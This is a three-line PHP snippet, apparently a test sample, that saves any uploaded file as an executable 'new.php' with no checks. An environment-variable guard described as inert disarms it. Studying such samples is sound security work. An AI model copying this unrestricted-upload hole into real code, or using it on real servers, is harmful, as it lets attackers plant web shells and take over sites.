<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
move_uploaded_file($_FILES['f']['tmp_name'], 'new.php');
